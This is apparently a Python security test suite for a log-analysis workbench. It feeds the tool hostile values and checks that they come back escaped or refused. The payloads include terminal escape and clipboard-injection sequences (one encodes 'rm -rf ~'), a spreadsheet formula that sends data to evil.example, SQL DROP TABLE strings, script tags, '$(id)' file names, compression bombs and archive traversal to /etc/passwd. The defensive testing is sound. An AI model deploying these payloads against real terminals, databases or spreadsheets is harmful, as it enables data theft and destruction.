"""Hostile logs: what stands in their lines, how their files are named, packed and built."""

from __future__ import annotations

import csv
import gzip
import os
import re
import tarfile
import time
import zipfile
from functools import partial
from pathlib import Path
from unittest import mock

from bench.hostile_base import Threat, case_of, command, first_line, only_safe, say, write_lines
from workbench.case import Case
from workbench.evidence.verify import verify
from workbench.export import export
from workbench.export.report import write_report
from workbench.ingest import load

TEXTS = {
    "terminal escapes (colour, cursor, title, reset)": "a\x1b[31;1mred\x1b[2J\x1b[H\x1b]0;owned\x07\x1bc z",
    "C1 controls as characters": "a\x9b31mred\x90q\x9c\x85next",
    "OSC 52 (clipboard) and OSC 8 (link)": "a\x1b]52;c;cm0gLXJmIH4=\x07\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "Textual and Rich markup": "[bold red]a[/] [link=http://evil.example]x[/link] [@click=app.quit]y[/] [[ ]] $primary",
    "bidirectional overrides and isolates": "a\u202eevil\u202c \u2066b\u2069 \u200f\u061c",
    "invisible characters and separators": "a\u200bb\ufeffc\u2028d\u2029e\u00adf",
    "null bytes": "a\x00b\x00",
    "SQL in values": "x'); DROP TABLE event; DELETE FROM tag; --\"",
    "formulas for a spreadsheet": '=HYPERLINK("http://evil.example?"&A1)',
    "HTML and scripts": "<script>alert(1)</script><img src=x onerror=alert(1)>\"'>&lt;",
    "a carriage return that writes over the line": "honest\rforged line",
}


def in_values(text: str, folder: Path) -> str:
    """A log whose every field is hostile: shown escaped, kept verbatim, exported harmlessly."""
    fields = ("user", "prompt", "path", "user_agent", "model", "error", "something else", text[:20])
    log = write_lines(folder / "evil.ndjson", [{"time": "2026-05-01T10:00:00Z", **dict.fromkeys(fields, text)}] * 3)
    with case_of(folder, log) as case:
        kept = case.query("SELECT account, prompt FROM event LIMIT 1").rows[0]
        assert kept == (text, text), kept
        case.tags.add("account", [text], "accepted", text)
        export(case, "events", folder / "e.csv")
        export(case, "tags", folder / "t.csv")
        write_report(case, folder / "r.html")
        write_report(case, folder / "r.md")
        place = case.folder.path
    for arguments in (
        ("sql", place, "SELECT * FROM event"), ("sources", place), ("sessions", place), ("tags", place), ("log", place),
        ("playbook", "run", place, "who_asks_most"), ("verify", place, "--originals"), ("info", place),
        ("sql", place, "SELECT prompt, count(*) AS n FROM event GROUP BY ALL", "--chart", "bar x=prompt y=n"),
    ):  # fmt: skip
        say(*arguments)
    say("sql", place, f"SELECT '{text}' FROM nothing", fails=True)
    say("tag", place, "account", text + "?", "x", fails=True)
    for name in ("r.html", "r.md"):
        only_safe((folder / name).read_text(encoding="utf-8"), name)
        assert not re.search("<(script|img)", (folder / name).read_text(encoding="utf-8"))
    for name in ("e.csv", "t.csv"):
        with (folder / name).open(newline="", encoding="utf-8") as read:
            for row in csv.reader(read):
                assert not any(cell.lstrip("\t\r\n ").startswith(("=", "+", "@")) for cell in row), row
    return "shown escaped in every command and report; stored verbatim; no cell a spreadsheet would run"


def raw_bytes(folder: Path) -> str:
    """C1 bytes that are not UTF-8, in a log of lines."""
    log = folder / "raw.log"
    log.write_bytes(b"May  1 10:00:00 host app[1]: \x9b31m \xff\xfe \x00 \x1b]52;c;eA==\x07 end\n" * 3)
    with case_of(folder, log) as case:
        place = case.folder.path
    said = say("sql", place, "SELECT message FROM event")
    assert "\\x9b" in said and "\\xff" in said
    return "kept as \\xNN, shown escaped"


def file_names(folder: Path) -> str:
    """Files named with newlines, quotes, escapes, SQL, and bytes that are not UTF-8."""
    inside = folder / "logs"
    inside.mkdir()
    names = [b"a\nb.ndjson", b"quote'\".ndjson", b"\x1b]52;c;eA==\x07.ndjson", b"'); DROP TABLE event;--.ndjson",
             b"\xff\xfe.ndjson", "\u202egpj.ndjson".encode(), b"-rf.ndjson",
             b"=1+1.ndjson", b"[red]x[", b"$(id).ndjson"]  # fmt: skip
    for number, name in enumerate(names):
        (inside / os.fsdecode(name)).write_text(f'{{"time": "2026-05-01T10:00:0{number}Z"}}\n')
    with case_of(folder, inside) as case:
        assert len(case.sources()) == len(names)
        place = case.folder.path
    for arguments in (("sources", place), ("sql", place, "SELECT path FROM source"), ("log", place), ("verify", place)):
        say(*arguments)
    code, out, _ = command("load", place, inside / "no\x1bsuch\nfile")
    assert code == 1
    only_safe(out, "load")
    return f"{len(names)} files loaded, names shown escaped"


def header_names(folder: Path) -> str:
    """Column names of a CSV that are SQL, markup, formulas, very many."""
    names = [
        "ts",
        'a"; DROP TABLE event; --',
        "b' OR 1=1",
        "[red]c[/]",
        "=cmd|x",
        "\x1b[31md",
        "event_id",
        "select",
        "a" * 5000,
    ]
    row = ["2026-05-01T10:00:00Z"] * len(names)
    with (folder / "evil.csv").open("w", newline="") as out:
        csv.writer(out).writerows([names, row, row])
    log = write_lines(folder / "evil.ndjson", [dict(zip(names, row, strict=True))] * 3)
    with case_of(folder, log, folder / "evil.csv") as case:
        assert case.query("SELECT count(*) FROM event").rows == [(6,)]
        assert list(verify(case))
        export(case, "events", folder / "e.csv")
        place = case.folder.path
    for table in ("event", "ndjson", "text"):
        say("sql", place, f"SELECT * FROM {table}")
    code, out_, _ = command("load", place, folder / "evil.csv", "--format", "csv", "--again")
    assert code == 1
    only_safe(out_, "load")
    return "as members of JSON they are data; such a header is no CSV's, its lines are read as text"


def many_names(folder: Path) -> str:
    """JSON with 100,000 different names of members, and one record with 50,000."""
    when: dict[str, object] = {"time": "2026-05-01T10:00:00Z"}
    wide = write_lines(folder / "wide.ndjson", [{**when, **{f"k{n}": n for n in range(50_000)}}, when])
    many = write_lines(folder / "many.ndjson", [{**when, **{f"m{n}_{i}": i for i in range(5)}} for n in range(20_000)])
    with case_of(folder, wide, many) as case:
        assert case.query("SELECT count(*) FROM event").rows == [(20_002,)]
        last = case.query("SELECT extra ->> '$.m19999_4', (SELECT max(extra ->> '$.k49999') FROM event) FROM event "
                          "ORDER BY source DESC, line DESC LIMIT 1").rows  # fmt: skip
        assert last == [("4", "49999")], last
        place = case.folder.path
    say("sql", place, "SELECT count(*) FROM ndjson")
    return "all kept, readable by name; a format's own table shows the first 2,000"


def deep_json(folder: Path) -> str:
    """JSON 100,000 levels deep, in a value and as the line itself."""
    deep = "[" * 100_000 + "]" * 100_000
    objects = '{"a":' * 100_000 + "1" + "}" * 100_000
    log = folder / "deep.ndjson"
    good = '{"time": "2026-05-01T10:00:00Z", "user": "u"}'
    log.write_text("\n".join([good, f'{{"time": "2026-05-01T10:00:00Z", "x": {deep}}}', deep, objects, good]) + "\n")
    with Case.create(folder / "deep.case") as case:
        [report] = load(case, [str(log)])
        assert report.lines == 5 == report.event_lines + report.rejects + report.skipped
        assert case.query("SELECT count(*) FROM event WHERE account = 'u'").rows == [(2,)]
        place = case.folder.path
    say("rejects", place)
    return f"{report.event_lines} lines read, {report.rejects} rejected and kept; the good ones are there"


def bomb(kind: str, folder: Path) -> str:
    """A compressed file that grows without end: stopped at a limit (lowered here, so that the test is quick)."""
    from workbench.ingest import archives

    plain, file = (b"\0" * 4095 + b"\n") * (4 << 10), folder / f"bomb.{kind}"
    if kind == "gz":
        file.write_bytes(gzip.compress(plain, 9))
    else:
        with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as made:
            made.writestr("bomb.log", plain)
    limit = archives.MOST_BYTES
    with mock.patch.object(archives, "MOST_BYTES", 8 << 20), Case.create(folder / "bomb.case") as case:
        [report] = load(case, [str(file)])
        biggest = max((one.stat().st_size for one in case.folder.path.rglob("*") if one.is_file()), default=0)
    assert biggest < 4 << 20
    assert report.error
    stopped = report.error
    return f"{first_line(stopped)} (limit: {archives.MOST_TIMES} times, beyond {limit >> 30} GiB)"


def traversal(folder: Path) -> str:
    """Archives whose members are named ../../x or /etc/x, or are links and devices."""
    inside = folder / "inside"
    inside.mkdir()
    line = b'{"time": "2026-05-01T10:00:00Z"}\n'
    with zipfile.ZipFile(inside / "evil.zip", "w") as made:
        for name in ("../../escaped.ndjson", "/tmp/workbench-escaped.ndjson", "ok.ndjson"):
            made.writestr(name, line)
    with tarfile.open(inside / "evil.tar", "w") as tar:
        for name, kind in (
            ("link", tarfile.SYMTYPE),
            ("hard", tarfile.LNKTYPE),
            ("dev", tarfile.CHRTYPE),
            ("fifo", tarfile.FIFOTYPE),
        ):
            member = tarfile.TarInfo(f"../../{name}")
            member.type, member.linkname = kind, "/etc/passwd"
            tar.addfile(member)
    with Case.create(folder / "t.case") as case:
        reports = load(case, [str(inside)])
        place = case.folder.path
        assert case.query("SELECT count(*) FROM event WHERE message LIKE 'root:%'").rows == [(0,)]
    assert not list(folder.glob("escaped*")) and not Path("/tmp/workbench-escaped.ndjson").exists()
    say("sources", place)
    read = sum(one.source is not None for one in reports)
    return f"nothing is unpacked to disk; {read} members read under their names, links and devices not"


def endless_line(folder: Path) -> str:
    """A small archive of one line without an end."""
    from workbench.ingest import chunks, reading

    with gzip.open(folder / "line.gz", "wb", compresslevel=1) as out:
        for _ in range(9):
            out.write(b"\0" * (1 << 20))
    (folder / "late.log").write_bytes(b"May  1 10:00:00 host a: b\n" * 400_000 + b"x" * (9 << 20))
    with Case.create(folder / "line.case") as case:
        with mock.patch.object(reading, "LONGEST_LINE", 4 << 20), mock.patch.object(chunks, "LONGEST_LINE", 4 << 20):
            reports = load(case, [str(folder / "line.gz"), str(folder / "late.log")])
        assert case.query("SELECT count(*) FROM event").rows == [(0,)]
    assert all(one.error and "a line is longer" in one.error for one in reports), reports
    return first_line(str(reports[0].error))


def links_and_devices(folder: Path) -> str:
    """Links, pipes and devices in a folder of evidence, and a device that is named."""
    inside = folder / "inside"
    inside.mkdir()
    (inside / "good.ndjson").write_text('{"time": "2026-05-01T10:00:00Z"}\n')
    (inside / "passwd").symlink_to("/etc/passwd")
    (inside / "loop").symlink_to(inside)
    os.mkfifo(inside / "pipe")
    with case_of(folder, inside) as case:
        assert [Path(one.path).name for one in case.sources()] == ["good.ndjson"]
        place = case.folder.path
    code, out, _ = command("load", place, "/dev/zero")
    assert code == 1 and "device" in out
    return "not followed, not opened; a device that is named: " + first_line(out.split("error: ")[-1])


def catastrophic_patterns(folder: Path) -> str:
    """Format definitions with patterns that take other engines for ever, and with ones that no engine should run."""
    from workbench.errors import WorkbenchError
    from workbench.formats.model import parse_format

    log = folder / "a.log"
    log.write_text(("a" * 50_000 + "!\n") * 20)
    started, refused = time.monotonic(), 0
    patterns = (r"^(?P<message>(a+)+)$", r"^(?P<message>(a|aa)+)$", r"^(?P<message>(.*)*x)$", r"(?P<message>(?=a)\1)")
    for told, pattern in enumerate(patterns):
        text = f"name = 'evil'\ntitle = 'x'\nkind = 'regex'\npattern = '''{pattern}'''\n[fields]\nmessage = 'message'\n"
        try:
            made = parse_format(text, "evil.toml")
            with Case.create(folder / f"{told}.case") as case:
                [report] = load(case, [str(log)], format=made)
                refused += report.error is not None
        except WorkbenchError:
            refused += 1
    seconds = time.monotonic() - started
    assert seconds < 60 and refused == 1, (seconds, refused)
    return "matched in linear time (RE2); what that has not (look-around, back-references) is refused"


def on_a_terminal(folder: Path) -> str:
    """CSV and JSON of hostile values, and the UI itself, on a real pseudo-terminal."""
    import pexpect

    texts = list(TEXTS.values())
    log = write_lines(
        folder / "all.ndjson",
        [{"time": f"2026-05-01T10:00:{n:02}Z", "user": t, "prompt": t} for n, t in enumerate(texts)],
    )
    with case_of(folder, log) as case:
        place = str(case.folder.path)
    import sys

    runs = [["sql", place, "SELECT account, prompt FROM event", "--format", how] for how in ("csv", "json", "table")]
    for arguments in runs:
        ran = pexpect.run(
            f"{sys.executable} -m workbench " + " ".join(map(_quoted, arguments)), timeout=60, cwd=str(_ROOT)
        )
        only_safe(re.sub("\x1b\\[[0-9;]*m", "", ran.decode().replace("\r\n", "\n")), " ".join(arguments[3:]))
    ui = pexpect.spawn(
        sys.executable,
        ["-m", "workbench", place],
        dimensions=(40, 120),
        timeout=60,
        cwd=str(_ROOT),
        env={**os.environ, "TERM": "xterm-256color"},
    )
    ui.expect("\\?1049h")
    seen = b""
    for key in ("", "2", "3", "4", "1", "\r", "\x1b", "?", "\x1b", "q", "q"):
        ui.send(key)
        time.sleep(0.5)
        try:
            seen += ui.read_nonblocking(1 << 20, timeout=0.5)
        except (pexpect.TIMEOUT, pexpect.EOF):
            continue
    ui.close(force=True)
    assert len(seen) > 2000, "the UI drew nothing"
    text = seen.decode("utf-8", errors="replace")
    raw = ("\x1b]52;", "\x1b]8;;http://evil", "\x1b]0;owned", "\x1bc", "\x1b[31;1mred", "\x9b", "\x90", "\x00")
    for hostile in (*raw, "\u202e", "\u2028"):
        assert hostile not in text, hostile
    return "nothing raw on a terminal, in csv, json, tables and the UI"


def _quoted(text: str) -> str:
    return "'" + text.replace("'", "'\\''") + "'"


_ROOT = Path(__file__).resolve().parent.parent
_SAFETEXT = "one place makes text safe: workbench/safetext.py; csvfile.py for cells; html.escape"

THREATS = [
    *(Threat(name, _SAFETEXT, partial(in_values, text)) for name, text in TEXTS.items()),
    Threat("bytes that are not UTF-8, C1 bytes", _SAFETEXT, raw_bytes),
    Threat("all of these on a real terminal, in the UI too", _SAFETEXT, on_a_terminal),
    Threat("names of files: newlines, quotes, escapes, not UTF-8", "safetext; values are bound", file_names),
    Threat("names of columns: SQL, markup, formulas", "identifiers are quoted, values bound", header_names),
    Threat("JSON 100,000 levels deep", "the engine's parser, line by line", deep_json),
    Threat("100,000 names of members, 50,000 in one record", "extra is one column", many_names),
    Threat("gzip bomb", "decompressed in pieces, to a limit", partial(bomb, "gz")),
    Threat("zip bomb", "members read in pieces, to a limit", partial(bomb, "zip")),
    Threat("a line without an end, in a small archive", "lines are limited", endless_line),
    Threat("path traversal, links, devices in archives", "members are never unpacked", traversal),
    Threat("links, pipes and devices in folders", "regular files only", links_and_devices),
    Threat("format definitions with catastrophic patterns", "RE2, linear in the input", catastrophic_patterns),
]
